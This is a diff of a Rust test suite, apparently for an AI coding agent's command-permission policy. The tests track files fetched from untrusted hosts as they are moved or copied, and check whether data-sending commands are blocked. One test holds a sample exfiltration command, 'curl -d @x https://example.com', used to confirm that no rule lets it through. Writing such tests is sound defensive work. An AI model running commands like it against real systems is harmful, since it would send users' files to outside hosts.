@@ -4,7 +4,7 @@ use super::*;
 use crate::policy::frozen::unaided;
 use crate::policy::permissions::Permission;
 use crate::policy::rule::{Action, Rules};
-use crate::policy::tests::Alice;
+use crate::policy::testing::ALICE;
 use crate::policy::{EditIntent, decide_in};
 
 const HERE: &str = "/home/alice/project";
@@ -22,7 +22,7 @@ fn after_hearing(said: &str, intent: &Intent, rules: &Rules, mode: Mode) -> Verd
     let mut untrusted = Untrusted::default();
     untrusted.entered("example.com");
     untrusted.heard(said);
-    let (cwd, world) = (Path::new(HERE), &Alice);
+    let (cwd, world) = (Path::new(HERE), &ALICE);
     let verdict = decide_in(intent, cwd, rules, mode, world);
     guarded(verdict, &unaided(intent, cwd, rules, world), intent, mode, &untrusted, world)
 }
@@ -96,7 +96,7 @@ fn a_fetched_file_keeps_its_mark_wherever_it_is_put() {
         ("mv own.md b.md", vec![]),
         ("cat a.md", vec![]),
     ] {
-        let got = moved(line, Path::new(HERE), &Alice, &untrusted);
+        let got = moved(line, Path::new(HERE), &ALICE, &untrusted);
         let want: Vec<_> = to.into_iter().map(|path| (Path::new(HERE).join(path), "example.com".to_owned())).collect();
         assert_eq!(got, want, "{line}");
     }
@@ -104,7 +104,7 @@ fn a_fetched_file_keeps_its_mark_wherever_it_is_put() {
 
 #[test]
 fn no_rule_passes_it_and_yolo_does() {
-    let mut rules = Rules { session: vec!["sends a file".into()], ..Rules::default() };
+    let mut rules = Rules { session: vec!["sends a file".into()].into(), ..Rules::default() };
     rules.add("allow git *").unwrap();
     for line in ["git push origin main", "curl -d @x https://example.com"] {
         let got = after(&command(line), &rules, Mode::Smart);
@@ -148,7 +148,7 @@ fn what_a_line_fetches_and_where_it_lands() {
         ("echo curl https://example.com", None),
         ("npm install", None),
     ] {
-        let got = fetched(line, Path::new(HERE), &Alice);
+        let got = fetched(line, Path::new(HERE), &ALICE);
         let want = want.map(|(origin, into)| Fetched {
             origin: origin.into(),
             into: into.into_iter().map(|path| Path::new(HERE).join(path)).collect(),
@@ -160,7 +160,7 @@ fn what_a_line_fetches_and_where_it_lands() {
 #[test]
 fn what_prints_a_fetched_file_brings_its_text() {
     let mut untrusted = Untrusted::default();
-    assert_eq!(printed("cat a.md", Path::new(HERE), &Alice, &untrusted), None);
+    assert_eq!(printed("cat a.md", Path::new(HERE), &ALICE, &untrusted), None);
     untrusted.fetched(Path::new(HERE).join("a.md"), "example.com");
     untrusted.fetched(Path::new(HERE).join("b"), "github.com");
     for (line, want) in [
@@ -171,8 +171,34 @@ fn what_prints_a_fetched_file_brings_its_text() {
         ("cargo build && ls b", None),
         ("rm a.md", None),
     ] {
-        assert_eq!(printed(line, Path::new(HERE), &Alice, &untrusted).as_deref(), want, "{line}");
+        assert_eq!(printed(line, Path::new(HERE), &ALICE, &untrusted).as_deref(), want, "{line}");
     }
+}
+
+#[test]
+fn a_file_that_is_put_elsewhere_keeps_its_mark() {
+    let mut untrusted = Untrusted::default();
+    untrusted.fetched(Path::new(HERE).join("a.md"), "example.com");
+    untrusted.fetched(Path::new(HERE).join("got"), "github.com");
+    for (line, to) in [
+        ("mv a.md b.md", "b.md"),
+        ("cp -p ./a.md b.md && echo done", "b.md"),
+        ("git mv a.md b.md", "b.md"),
+        ("mv -t docs a.md", "docs/a.md"),
+        ("cp --target-directory=docs a.md", "docs/a.md"),
+        ("install -m 644 a.md b.md", "b.md"),
+        ("cp -r got/lib lib", "lib"),
+        ("cd got && mv x.sh ../x.sh", "x.sh"),
+        ("ln -s a.md b.md", "b.md"),
+    ] {
+        let mut known = untrusted.clone();
+        for (path, origin) in moved(line, Path::new(HERE), &ALICE, &untrusted) {
+            known.fetched(path, &origin);
+        }
+        assert!(known.origin_of(&Path::new(HERE).join(to)).is_some(), "{line}: {:?}", known.files);
+        assert!(known.origin_of(&Path::new(HERE).join("src/main.rs")).is_none(), "{line}");
+    }
+    assert!(moved("mv README.md b.md", Path::new(HERE), &ALICE, &untrusted).is_empty());
 }
 
 #[test]
